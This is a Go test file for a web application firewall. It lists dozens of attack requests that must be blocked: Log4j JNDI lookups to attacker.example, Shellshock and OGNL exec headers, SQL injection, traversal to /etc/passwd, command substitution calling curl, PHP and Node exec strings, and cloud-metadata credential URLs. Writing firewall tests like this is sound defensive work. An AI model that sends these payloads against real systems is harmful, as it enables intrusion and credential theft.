package waf

import (
	"strings"
	"testing"
)

func header(name, value string) [2]string { return [2]string{name, value} }

func operatorWith(body string) Request {
	return withBody(request("POST", "/v1/operator/tasks/"+taskID+"/cancel", ""), "application/json", []byte(body))
}

// wholeLine has the attacks in a query that rules for the whole request line stop. No function reads the query of a callback.
var wholeLine = map[string]bool{"a traversal": true, "an encoded traversal": true, "Log4j": true, "a zero byte": true}

// attacks are requests that must not reach a function.
func attacks() map[string]Request {
	callback := "/v1/results/" + taskID + "/" + signedToken(seeded(31))
	all := map[string]Request{
		"101 parameters":                request("GET", "/v1/tasks", strings.Repeat("a=1&", 100)+"a=1"),
		"a long query of a list":        request("GET", "/v1/tasks", "resource="+strings.Repeat("a", 4_088)),
		"a long query of a callback":    request("POST", callback, strings.Repeat("a", 4_097)),
		"a long query without a token":  request("GET", "/healthz", strings.Repeat("a", 513)),
		"a long path":                   request("GET", "/problems/"+strings.Repeat("a", 503), ""),
		"a path without a route":        request("GET", "/v2/results/"+taskID, ""),
		"the console":                   request("GET", "/console", ""),
		"a URI that cannot be read":     request("GET", "/v1/tasks/%zz", ""),
		"a body above the limit":        operatorWith(strings.Repeat("a", 16_385)),
		"an encoded body of a sender":   withBody(request("POST", "/v1/tasks", "", header("content-encoding", "gzip")), "application/json", []byte("x")),
		"a Proxy header":                request("POST", callback, "", header("proxy", "http://attacker.example")),
		"a Next.js subrequest":          request("GET", "/v1/tasks", "", header("x-middleware-subrequest", "middleware")),
		"a length that is no number":    request("POST", callback, "", header("content-length", "1, 2")),
		"an expression as type":         request("POST", callback, "", header("content-type", "%{(#_='multipart/form-data').(#a=@java.lang.Runtime@getRuntime().exec('id'))}")),
		"Log4j in a body":               operatorWith(`{"reason":"${jndi:ldap://attacker.example/a}"}`),
		"Log4j in a body, escaped":      operatorWith(`{"reason":"\u0024\u007bjndi:ldap://attacker.example/a}"}`),
		"Log4j in a body, hidden":       operatorWith(`{"reason":"${${lower:j}ndi:ldap://attacker.example/a}"}`),
		"a prototype in a body":         operatorWith(`{"reason":"a","__proto__":{"isAdmin":true}}`),
		"serialized Java in a body":     operatorWith(`{"reason":"org.apache.commons.collections.functors.InvokerTransformer java.lang.Runtime"}`),
		"Log4j in a body not as JSON":   withBody(request("POST", "/v1/handshake/confirm", ""), "multipart/form-data; boundary=x", []byte("--x\r\n\r\n${jndi:ldap://a}\r\n--x--")),
		"Log4j after a byte order mark": operatorWith("\xef\xbb\xbf" + `{"reason":"${jndi:ldap://attacker.example/a}"}`),
	}
	for _, path := range []string{"/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/actuator/env", "/cgi-bin/test.cgi", "/"} {
		all["a search for "+path] = request("GET", path, "")
	}
	for _, path := range []string{
		"/v1/tasks/.env", "/problems/.git/config", "/problems/wp-config.php", "/v1/tasks/id_rsa.bak",
		"/v1/tasks/../../../etc/passwd", "/v1/tasks/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/v1/tasks/..%5c..%5cwindows%5cwin.ini",
		"/v1/results/../../../../etc/passwd", "/v1/results/" + taskID + "/..%2f..%2f..%2fetc%2fpasswd", "/c/..%252f..%252fetc",
		"/v1/tasks/%00", "/v1/results/a%00b", "/v1/tasks/a%0d%0aset-cookie:%20a=b", "/problems/<script>alert(1)</script>",
		"/problems/$%7bjndi:ldap:%2f%2fattacker.example%7d",
	} {
		all["the path "+path] = request("GET", path, "")
	}
	for name, query := range map[string]string{
		"a script":             "q=<script>alert(document.cookie)</script>",
		"an encoded script":    "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
		"a JavaScript URL":     "next=javascript:alert(1)",
		"SQL":                  "id=1%27%20OR%20%271%27=%271",
		"a union":              "id=-1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--",
		"a sleep":              "id=1;SELECT%20pg_sleep(10)",
		"a traversal":          "file=../../../../etc/passwd",
		"an encoded traversal": "file=..%2f..%2f..%2fetc%2fshadow",
		"a command":            "host=127.0.0.1;cat%20/etc/passwd",
		"a substitution":       "host=$(curl%20http://attacker.example)",
		"a PowerShell command": "q=powershell.exe%20-enc%20abc",
		"PHP":                  "q=%3C?php%20system(%27id%27);?%3E",
		"a PHP stream":         "page=php://filter/convert.base64-encode/resource=index.php",
		"a remote file":        "page=http://198.51.100.7/shell.txt?",
		"instance metadata":    "url=http://169.254.169.254/latest/meta-data/iam/",
		"Log4j":                "q=$%7Bjndi:ldap://attacker.example/a%7D",
		"a prototype":          "__proto__[isAdmin]=1",
		"Node":                 "q=require(%27child_process%27).exec(%27id%27)",
		"a split response":     "lang=en%0d%0aSet-Cookie:%20session=attacker",
		"a second response":    "q=a%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html",
		"a zero byte":          "file=a%00.pdf",
		"a Java class":         "q=java.lang.Runtime.getRuntime()",
		"an inclusion":         "q=%3C!--%23exec%20cmd=%22id%22--%3E",
	} {
		paths := []string{"/v1/tasks", "/healthz", "/v1/operator/tasks"}
		if wholeLine[name] {
			paths = append(paths, callback)
		}
		for _, path := range paths {
			all["a query with "+name+" at "+path[:8]] = request("GET", path, query)
		}
	}
	for name, one := range map[string][2]string{
		"Shellshock":               header("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
		"Shellshock in a referrer": header("referer", "() { _; } >_[$($())] { id; }"),
		"Log4j":                    header("user-agent", "${jndi:ldap://attacker.example/a}"),
		"Log4j in another header":  header("x-api-version", "${${::-j}${::-n}di:rmi://attacker.example}"),
		"Log4j in a token":         header("authorization", "Bearer ${jndi:dns://attacker.example}"),
		"Java":                     header("x-a", "java.lang.ProcessBuilder"),
		"sqlmap":                   header("user-agent", "sqlmap/1.8.9#stable (https://sqlmap.org)"),
		"nikto":                    header("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"),
		"nuclei":                   header("user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
		"a script":                 header("user-agent", "<script>alert(1)</script>"),
		"SQL":                      header("user-agent", "' OR 1=1-- -"),
		"a traversal":              header("x-file", "../../../../etc/passwd"),
		"a split response":         header("x-a", "a\r\nset-cookie: b=c"),
	} {
		all[name+" in a header of a callback"] = withBody(request("POST", callback, "", one), "application/json", []byte("{}"))
		all[name+" in a header of a sender"] = request("GET", "/v1/tasks", "", one)
	}
	old := request("GET", "/v1/tasks", "")
	old.Protocol = "HTTP/0.9"
	all["HTTP/0.9"] = old
	return all
}

func TestAttacksAreStopped(t *testing.T) {
	firewall := generated(t)
	rules := map[int]int{}
	for name, one := range attacks() {
		verdict, err := firewall.Inspect(one)
		if err != nil || !verdict.Blocked {
			t.Errorf("%s: %+v, %v; expected that it is blocked", name, verdict, err)
			continue
		}
		rules[verdict.RuleID]++
		if verdict.Status < 400 || verdict.Status > 499 || verdict.RuleID == 0 && verdict.Status != 413 || verdict.RuleID != 0 && verdict.Severity == "" {
			t.Errorf("%s: %+v; expected a status of the client's fault, a rule and its severity", name, verdict)
		}
	}
	t.Logf("%d attacks, by rule: %v", len(attacks()), rules)
}
